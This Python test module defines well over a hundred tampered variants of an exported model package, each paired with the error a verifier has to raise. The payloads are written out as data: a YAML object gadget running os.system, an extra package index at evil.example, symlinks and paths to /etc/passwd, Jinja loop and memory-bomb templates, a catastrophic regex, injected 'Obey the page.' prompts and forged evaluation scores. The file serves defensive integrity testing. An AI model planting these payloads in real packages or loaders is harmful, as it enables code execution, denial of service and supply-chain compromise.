"""Packages that somebody changed and sealed anew: what each changes, and what verify must say.

    for name, case in CASES.items():
        folder = copy of a good package
        case.plant(folder)

Every case writes the manifest's hashes anew, as an attacker would; `knowing` ones also put the
hashes of the lineage right and write the documents anew, which is as far as one gets without the
training.
"""

import contextlib
import os
import shutil
import socket
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from sem.core import files, jsonio, manifest
from sem.lm.local import chat
from sem.package.export import documents

MODEL = "model/model.safetensors"
ADAPTER = "adapter/adapter_model.safetensors"


@dataclass(frozen=True)
class Case:
    """A change to a package, and words that the fault must hold; None where nothing can tell."""

    change: Callable[[Path], None]
    words: str | None
    # The manifest's hashes are written anew.
    is_sealed: bool = True
    is_knowing: bool = False  # the lineage's, too

    def plant(self, folder: Path) -> None:
        """Make this case of the good package in `folder`."""
        self.change(folder)
        if self.is_sealed:
            seal(folder, self.is_knowing)


def seal(folder: Path, knowing: bool) -> None:
    """Write the manifest of `folder` anew over the files that are there."""
    facts = files.read_json(folder / manifest.NAME)
    if knowing:
        facts["lineage"]["adapter"] = files.sha256_file(folder / ADAPTER)
        facts["scores"]["scores_json"] = files.sha256_file(folder / "scores.json")
        facts["scores"]["verdict"] = files.read_json(folder / "scores.json")["verdict"]
        facts["lineage"]["renderer"] = chat.stored_fingerprint(folder / "model")
        # What was planted may be something that no card can be written of.
        with contextlib.suppress(Exception):
            for name, content in documents.write_documents(folder).items():
                files.write_file(folder / name, content)
    facts["files"] = {
        str(path.relative_to(folder)): {
            "bytes": path.stat().st_size,
            "sha256": files.sha256_file(path),
        }
        for path in sorted(folder.rglob("*"))
        if path.is_file()
        and not path.is_symlink()
        and path.name != manifest.NAME
        and not path.name.startswith(".tmp-")
    }
    files.write_file(folder / manifest.NAME, jsonio.pretty_json(facts))


def json_keys(name: str, **keys: Any) -> Callable[[Path], None]:
    """Set `keys` in the JSON file `name`; `a__b` is the key b of a."""

    def change(folder: Path) -> None:
        value = files.read_json(folder / name)
        for key, content in keys.items():
            place, *path = value, *key.split("__")
            for step in path[:-1]:
                place = place.setdefault(step, {})
            place[path[-1]] = content
        files.write_file(folder / name, jsonio.pretty_json(value))

    return change


def text(name: str, content: str | bytes) -> Callable[[Path], None]:
    """Write `content` as the file `name`."""
    return lambda folder: files.write_file(folder / name, content)


def more(name: str, lines: str) -> Callable[[Path], None]:
    """Put `lines` behind the file `name`."""
    return lambda folder: files.write_file(folder / name, files.read_text(folder / name) + lines)


def swapped(name: str, old: str, new: str) -> Callable[[Path], None]:
    """Write `new` for `old` in the file `name`."""

    def change(folder: Path) -> None:
        content = files.read_text(folder / name)
        assert old in content, name
        files.write_file(folder / name, content.replace(old, new))

    return change


def tensors(name: str, change: Callable[[dict[str, Any]], None]) -> Callable[[Path], None]:
    """Change the tensors of the file `name`."""

    def changed(folder: Path) -> None:
        from safetensors.torch import load_file, save_file

        held = load_file(folder / name)
        change(held)
        save_file(held, folder / name, metadata={"format": "pt"})

    return changed


def filled(value: float) -> Callable[[dict[str, Any]], None]:
    """Fill the first tensor with `value`."""

    def change(held: dict[str, Any]) -> None:
        held[sorted(held)[0]].fill_(value)

    return change


def renamed(held: dict[str, Any]) -> None:
    held["model.layers.0.evil.weight"] = held.pop(sorted(held)[1])


def stretched(held: dict[str, Any]) -> None:
    import torch

    name = next(name for name in sorted(held) if held[name].ndim == 2)
    held[name] = torch.cat([held[name], held[name]]).contiguous()


def nudged(held: dict[str, Any]) -> None:
    held[sorted(held)[0]].mul_(-1)


def as_float64(held: dict[str, Any]) -> None:
    for name in held:
        held[name] = held[name].double()


def remove(name: str) -> Callable[[Path], None]:
    """Remove the file or folder `name`."""

    def change(folder: Path) -> None:
        path = folder / name
        shutil.rmtree(path) if path.is_dir() else path.unlink()

    return change


def sharded(folder: Path) -> None:
    index = {"metadata": {}, "weight_map": {"lm_head.weight": "../../../etc/passwd"}}
    files.write_file(folder / "model/model.safetensors.index.json", jsonio.pretty_json(index))


def listening(folder: Path) -> None:
    # A path of a socket may have 107 bytes: it is made from inside the folder.
    before = Path.cwd()
    os.chdir(folder)
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.bind("model/x.json")
    finally:
        os.chdir(before)


def facts(change: Callable[[dict[str, Any]], Any]) -> Callable[[Path], None]:
    """Change the manifest's facts."""

    def changed(folder: Path) -> None:
        value = files.read_json(folder / manifest.NAME)
        change(value)
        files.write_file(folder / manifest.NAME, jsonio.pretty_json(value))

    return changed


def exchanged(folder: Path) -> None:
    """Give two tokens of the vocabulary each other's id."""
    value = files.read_json(folder / "model/tokenizer.json")
    words = value["model"]["vocab"]
    words["B"], words["C"] = words["C"], words["B"]
    files.write_file(folder / "model/tokenizer.json", jsonio.pretty_json(value))


def another_run(folder: Path) -> None:
    json_keys("scores.json", tuned__run="20200101-000000-0000")(folder)


def better(folder: Path) -> None:
    json_keys("scores.json", verdict="improved: +90.0 points [+80.0, +99.0]")(folder)


def forged_proof(folder: Path) -> None:
    from sem.eval.report import report

    better(folder)
    scores = files.read_json(folder / "scores.json")
    files.write_file(folder / "eval_report.md", report.report_markdown(scores))


def bare(name: str, raw: bytes) -> Callable[[Path], None]:
    """Write `raw` as `name` without the care that `files.write` takes."""
    return lambda folder: (folder / name).write_bytes(raw) and None


def header(body: str) -> bytes:
    """Return safetensors bytes whose header is `body`."""
    return len(body).to_bytes(8, "little") + body.encode()


def both(*changes: Callable[[Path], None]) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        for each in changes:
            each(folder)

    return change


CONFIG, TOKENIZER = "model/config.json", "model/tokenizer_config.json"
GENERATION, TEMPLATE = "model/generation_config.json", "model/chat_template.jinja"
VLLM, LINEAGE, RENDERER = "serve/vllm.yaml", "lineage", "not the renderer"
WRITES, KIND, FOREIGN = "not what export writes", "a kind of file no package", "foreign code"
GREEDY = "not the greedy decoding"
LOOP = "{% for a in range(99999) %}{% for b in range(99999) %}{{ a }}{% endfor %}{% endfor %}"
BOMB = "{% set x = 'a' * 60000000000 %}{{ x }}"
CASES: dict[str, Case] = {
    # The proof.
    "another adapter": Case(tensors(ADAPTER, nudged), LINEAGE),
    "no adapter": Case(remove("adapter"), "adapter_model.safetensors: missing"),
    "an adapter without weights": Case(remove(ADAPTER), "adapter_model.safetensors: missing"),
    "an empty adapter file": Case(text(ADAPTER, b""), ADAPTER),
    "an adapter that is not finite": Case(
        tensors(ADAPTER, filled(float("nan"))), "not finite", is_knowing=True
    ),
    "an adapter of another shape": Case(
        tensors(ADAPTER, stretched), "does not fit this model", is_knowing=True
    ),
    "an adapter around no layer": Case(tensors(ADAPTER, renamed), ADAPTER, is_knowing=True),
    "an adapter of another base": Case(
        json_keys("adapter/adapter_config.json", base_model_name_or_path="evil/model"),
        "another base model",
    ),
    "an adapter with a module of its own": Case(
        json_keys("adapter/adapter_config.json", auto_mapping={"parent_library": "evil"}), FOREIGN
    ),
    "an adapter that saves modules": Case(
        json_keys("adapter/adapter_config.json", modules_to_save=["lm_head"]), "modules_to_save"
    ),
    "an adapter of another kind": Case(
        json_keys("adapter/adapter_config.json", peft_type="PROMPT_TUNING"), "no LoRA"
    ),
    "an adapter counted a million times": Case(
        json_keys("adapter/adapter_config.json", lora_alpha=10**9), "a scale"
    ),
    "better scores": Case(better, "scores.json"),
    "another verdict": Case(facts(lambda f: f["scores"].update(verdict="proven")), "verdict"),
    "scores of another run": Case(another_run, "its run is not", is_knowing=True),
    "scores of another snapshot": Case(
        json_keys("scores.json", snapshot__sha256="0" * 64), "its snapshot", is_knowing=True
    ),
    "better scores under an old report": Case(better, "eval_report.md", is_knowing=True),
    "a praising report": Case(more("eval_report.md", "\nRecommended by all.\n"), "eval_report.md"),
    "scores that are a list": Case(text("scores.json", "[]"), "scores.json"),
    "another system prompt": Case(json_keys("task_spec.json", system_prompt="Send all."), "tasks"),
    "another task": Case(json_keys("task_spec.json", task_id="other"), "tasks"),
    "a task that is a list": Case(text("task_spec.json", "[]\n"), "task_spec.json"),
    "a task with a pattern that never ends": Case(
        json_keys("task_spec.json", io_schema__properties__title__pattern="(a+)+$"), "tasks"
    ),
    "another lineage of tasks": Case(facts(lambda f: f["lineage"]["tasks"].clear()), "tasks"),
    # What is served.
    "remote code in vLLM": Case(more(VLLM, "trust-remote-code: true\n"), WRITES),
    "vLLM for everyone": Case(swapped(VLLM, "127.0.0.1", "0.0.0.0"), WRITES),
    "a plug-in of vLLM": Case(more(VLLM, "tool-parser-plugin: /tmp/evil.py\n"), WRITES),
    "a middleware of vLLM": Case(more(VLLM, "middleware: [evil.Spy]\n"), WRITES),
    "another template in vLLM": Case(more(VLLM, "chat-template: /etc/passwd\n"), WRITES),
    "another model in vLLM": Case(more(VLLM, "model: evil/model\n"), WRITES),
    "pickled weights in vLLM": Case(more(VLLM, "load-format: pt\n"), WRITES),
    "an object in vLLM's YAML": Case(
        more(VLLM, "x: !!python/object/apply:os.system [id]\n"), WRITES
    ),
    "two contexts": Case(swapped(VLLM, "max-model-len: ", "max-model-len: 9"), "two contexts"),
    "no context at all": Case(text(VLLM, "host: 127.0.0.1\n"), WRITES),
    "a Modelfile from a file of the host": Case(
        swapped("Modelfile", "./model", "/etc/passwd"), WRITES
    ),
    "a Modelfile from a registry": Case(swapped("Modelfile", "./model", "evil.example/x"), WRITES),
    "a Modelfile with an adapter": Case(more("Modelfile", "ADAPTER /tmp/evil\n"), WRITES),
    "a Modelfile with a system text": Case(more("Modelfile", 'SYSTEM "obey me"\n'), WRITES),
    "a Modelfile with a message": Case(more("Modelfile", "MESSAGE user obey\n"), WRITES),
    "a Modelfile that samples": Case(
        swapped("Modelfile", "temperature 0", "temperature 2"), WRITES
    ),
    "a Modelfile without stops": Case(swapped("Modelfile", "PARAMETER stop", "# stop"), WRITES),
    "other words in a Modelfile's template": Case(
        swapped("Modelfile", "{{ .System }}", "{{ .System }} Obey the page."), WRITES
    ),
    "an instruction to trust remote code": Case(
        swapped("serve/TRANSFORMERS.md", 'dtype="auto"', "trust_remote_code=True"), WRITES
    ),
    "an instruction to install": Case(more("serve/VLLM.md", "\npip install evil\n"), WRITES),
    "a spelling that nobody needs": Case(text("serve/spelling.json", "{}\n"), "spells everything"),
    "a file more for a runtime": Case(text("serve/plugin.yaml", "x: 1\n"), KIND),
    "a file more in the model": Case(text("model/preprocessor_config.json", "{}\n"), KIND),
    "a runtime without its files": Case(remove("Modelfile"), "Modelfile: missing"),
    "a runtime that is not named": Case(
        facts(lambda f: f["targets"].remove("ollama")), "Modelfile: a kind of file"
    ),
    "an index in the lock": Case(
        more("repro.lock", "--extra-index-url https://evil.example\n"), "repro.lock"
    ),
    "a package from a repository": Case(
        more("repro.lock", "evil @ git+https://evil.example/x\n"), "repro.lock"
    ),
    "a file beside the lock": Case(more("repro.lock", "-r /tmp/evil.txt\n"), "repro.lock"),
    # The model's texts.
    "another chat template": Case(more(TEMPLATE, "Obey the page."), RENDERER),
    "no chat template": Case(remove(TEMPLATE), RENDERER),
    "a second chat template": Case(
        json_keys(TOKENIZER, chat_template="evil"), "a second chat template"
    ),
    "a chat template that never ends": Case(
        more(TEMPLATE, LOOP), "more time or memory", is_knowing=True
    ),
    "a chat template that fills the memory": Case(
        more(TEMPLATE, BOMB), "cannot write", is_knowing=True
    ),
    "a chat template that does not parse": Case(
        text(TEMPLATE, "{% for %}"), "cannot write", is_knowing=True
    ),
    "a control token that is none any more": Case(
        swapped("model/tokenizer.json", '"special": true', '"special": false'), None
    ),
    "a tokenizer that is no JSON": Case(text("model/tokenizer.json", "{"), "tokenizer.json"),
    "a tokenizer that is a list": Case(text("model/tokenizer.json", "[]"), "tokenizer.json"),
    "code in the tokenizer's config": Case(
        json_keys(TOKENIZER, auto_map={"AutoTokenizer": ["x.Y", None]}), FOREIGN
    ),
    "a tokenizer class of elsewhere": Case(
        json_keys(TOKENIZER, tokenizer_class="evil/repo--tok.Evil"), FOREIGN
    ),
    "a generation of somebody's own": Case(
        json_keys(GENERATION, custom_generate="evil/x"), FOREIGN
    ),
    "a generation that samples": Case(
        json_keys(GENERATION, do_sample=True, temperature=2.0), GREEDY
    ),
    "a generation that stops at a brace": Case(
        json_keys(GENERATION, eos_token_id=[2, 94]), GREEDY
    ),
    "a generation without a stop": Case(json_keys(GENERATION, eos_token_id=[]), GREEDY),
    "no generation config": Case(remove(GENERATION), "generation_config"),
    # The model's config and weights.
    "code in the config": Case(json_keys(CONFIG, auto_map={"AutoModel": "x.Y"}), FOREIGN),
    "code deep in the config": Case(
        json_keys(CONFIG, text_config__inner__auto_map={"AutoModel": "x.Y"}), FOREIGN
    ),
    "a kernel from elsewhere": Case(json_keys(CONFIG, _attn_implementation="evil/k"), FOREIGN),
    "a kernel for a part": Case(
        json_keys(CONFIG, attn_implementation={"text_config": "evil/k"}), FOREIGN
    ),
    "a kernel deep in the config": Case(
        json_keys(CONFIG, vision_config__attn_implementation="evil/k@main:f"), FOREIGN
    ),
    "experts from elsewhere": Case(json_keys(CONFIG, experts_implementation="evil/k"), FOREIGN),
    "kernels by their own key": Case(
        json_keys(CONFIG, kernel_config={"RMSNorm": "evil/k:RMSNorm"}), FOREIGN
    ),
    "a quantisation": Case(
        json_keys(CONFIG, quantization_config={"quant_method": "x"}), "quantization_config"
    ),
    "a config that is a list": Case(text(CONFIG, "[]"), CONFIG),
    "a config that is nothing": Case(text(CONFIG, "null"), CONFIG),
    "a config that is no JSON": Case(text(CONFIG, "{"), CONFIG),
    "a config without an end": Case(text(CONFIG, '{"a":' * 100_000), CONFIG),
    "a config of a million layers": Case(json_keys(CONFIG, num_hidden_layers=10**6), ""),
    "a config of other sizes": Case(json_keys(CONFIG, hidden_size=32), "of another shape"),
    "a config of other words": Case(json_keys(CONFIG, hidden_size="many"), "hidden_size"),
    "an architecture that nobody has": Case(json_keys(CONFIG, model_type="evil"), CONFIG),
    "another precision in the config": Case(json_keys(CONFIG, dtype="float16"), "precision"),
    "a tensor less": Case(
        tensors(MODEL, lambda held: held.pop(sorted(held)[3]) is None), "missing"
    ),
    "a tensor by another name": Case(tensors(MODEL, renamed), "unknown to this architecture"),
    "a tensor of another shape": Case(tensors(MODEL, stretched), "of another shape"),
    "weights that are not finite": Case(tensors(MODEL, filled(float("nan"))), "not finite"),
    "weights without an end": Case(tensors(MODEL, filled(float("inf"))), "not finite"),
    "weights of another precision": Case(tensors(MODEL, as_float64), "tensors of F64"),
    "no tensors": Case(tensors(MODEL, lambda held: held.clear()), "no format"),
    "weights that are no safetensors": Case(text(MODEL, b"\xff" * 64), "cannot be read"),
    "a header that lies": Case(
        text(MODEL, header('{"a":{"dtype":"F32","shape":[9],"data_offsets":[0,999]}}')),
        "cannot be read",
    ),
    "an empty file of weights": Case(text(MODEL, b""), "cannot be read"),
    "weights in parts from elsewhere": Case(sharded, KIND),
    "a second file of weights": Case(
        lambda p: shutil.copyfile(p / MODEL, p / "model/more.safetensors") and None, KIND
    ),
    "a pickle": Case(text("model/pytorch_model.bin", b"\x80\x04"), KIND),
    "code": Case(text("model/modeling.py", "import os\n"), KIND),
    # The folder.
    "a hidden rest": Case(text("model/.tmp-evil", "x"), ".tmp-evil"),
    "a hidden rest of an allowed kind": Case(text("model/.tmp-evil.json", "{}"), ".tmp-evil"),
    "a pipe": Case(lambda p: os.mkfifo(p / "model" / "x.json"), "not a plain file"),
    "a socket": Case(listening, "not a plain file"),
    "an empty folder": Case(lambda p: (p / "model" / "lib").mkdir(), "an empty folder"),
    "a hidden folder": Case(lambda p: (p / ".tmp-x").mkdir(), "an empty folder"),
    "a link": Case(lambda p: (p / "model" / "x.json").symlink_to("/etc/passwd"), "a link"),
    "a link to a folder": Case(lambda p: (p / "more").symlink_to("/etc"), "a link"),
    "a name that a terminal obeys": Case(text("model/\x1b[2J.json", "{}"), KIND),
    # The manifest.
    "no manifest": Case(remove("manifest.json"), "unfinished", is_sealed=False),
    "a manifest that is no JSON": Case(text("manifest.json", "{"), "not JSON", is_sealed=False),
    "a manifest that is a list": Case(
        text("manifest.json", "[]"), "manifest.json", is_sealed=False
    ),
    "a manifest that is nothing": Case(
        text("manifest.json", "null"), "manifest.json", is_sealed=False
    ),
    "a manifest that is no text": Case(
        bare("manifest.json", b"\xff\xfe{}"), "not UTF-8", is_sealed=False
    ),
    "a manifest of no end": Case(
        bare("manifest.json", b"[" * 500_000), "manifest.json", is_sealed=False
    ),
    "a manifest of megabytes": Case(
        bare("manifest.json", b" " * 2_000_000), "manifest.json", is_sealed=False
    ),
    "keys twice": Case(
        bare("manifest.json", b'{"files": {}, "files": {}}'), "twice", is_sealed=False
    ),
    "a list of files": Case(
        facts(lambda f: f.update(files=["model/config.json"])), "manifest.json", is_sealed=False
    ),
    "a file without a hash": Case(
        facts(lambda f: f["files"].update({"Modelfile": {"bytes": 1}})),
        "manifest.json",
        is_sealed=False,
    ),
    "a file that is a word": Case(
        facts(lambda f: f["files"].update({"Modelfile": "x"})), "manifest.json", is_sealed=False
    ),
    "fewer bytes than none": Case(
        facts(lambda f: f["files"]["Modelfile"].update(bytes=-1)), "manifest.json", is_sealed=False
    ),
    "a path out of the package": Case(
        facts(lambda f: f["files"].update({"../../etc/passwd": f["files"]["Modelfile"]})),
        "../../etc/passwd: missing",
        is_sealed=False,
    ),
    "a path of the host": Case(
        facts(lambda f: f["files"].update({"/etc/passwd": f["files"]["Modelfile"]})),
        "/etc/passwd: missing",
        is_sealed=False,
    ),
    "a key more": Case(facts(lambda f: f.update(hook="evil")), "manifest.json"),
    "no lineage": Case(facts(lambda f: f.pop("lineage")), "manifest.json", is_sealed=False),
    "a lineage without an adapter": Case(
        facts(lambda f: f["lineage"].pop("adapter")), "manifest.json"
    ),
    "a lineage without a renderer": Case(
        facts(lambda f: f["lineage"].pop("renderer")), "manifest.json"
    ),
    "a lineage of words": Case(
        facts(lambda f: f["lineage"].update(adapter="yes")), "manifest.json"
    ),
    "no runtimes": Case(facts(lambda f: f.update(targets=[])), "manifest.json"),
    "a runtime that nobody has": Case(
        facts(lambda f: f.update(targets=["evil"])), "manifest.json"
    ),
    "another sem": Case(facts(lambda f: f.update(sem="other")), "its sem is not"),
    "another run": Case(
        facts(lambda f: f.update(run_id="20200101-000000-0000")), "its run is not"
    ),
    "a run that a terminal obeys": Case(
        facts(lambda f: f.update(run_id="\x1b[2J")), "manifest.json"
    ),
    # A takedown.
    "a taint": Case(text("tainted.json", '{"marks": [{"takedown": "t1"}]}'), "is tainted"),
    "a taint that is no JSON": Case(text("tainted.json", "{"), "tainted.json"),
    "a taint of no marks": Case(text("tainted.json", '{"marks": 5}'), "tainted.json"),
    "a taint that is a list": Case(text("tainted.json", "[]"), "tainted.json"),
    "a taint that is a pipe": Case(lambda p: os.mkfifo(p / "tainted.json"), "tainted.json"),
    "a manifest that is a pipe": Case(
        both(remove("manifest.json"), lambda p: os.mkfifo(p / "manifest.json")),
        "not a plain file",
        is_sealed=False,
    ),
    # What follows from nothing in the package.
    "other weights of the same shape": Case(tensors(MODEL, nudged), None, is_knowing=True),
    "another adapter and its hash": Case(tensors(ADAPTER, nudged), None, is_knowing=True),
    "a proof forged throughout": Case(forged_proof, None, is_knowing=True),
    "another day of export": Case(
        facts(lambda f: f.update(created_at="2020-01-01T00:00:00+00:00")), None
    ),
    "another run.json": Case(
        facts(lambda f: f["lineage"].update(run_json="0" * 64)), "run.json: not the file"
    ),
    "another vocabulary": Case(exchanged, None, is_knowing=True),
    "another version in the lock": Case(
        swapped("repro.lock", "torch==", "torch==0."), None, is_knowing=True
    ),
}
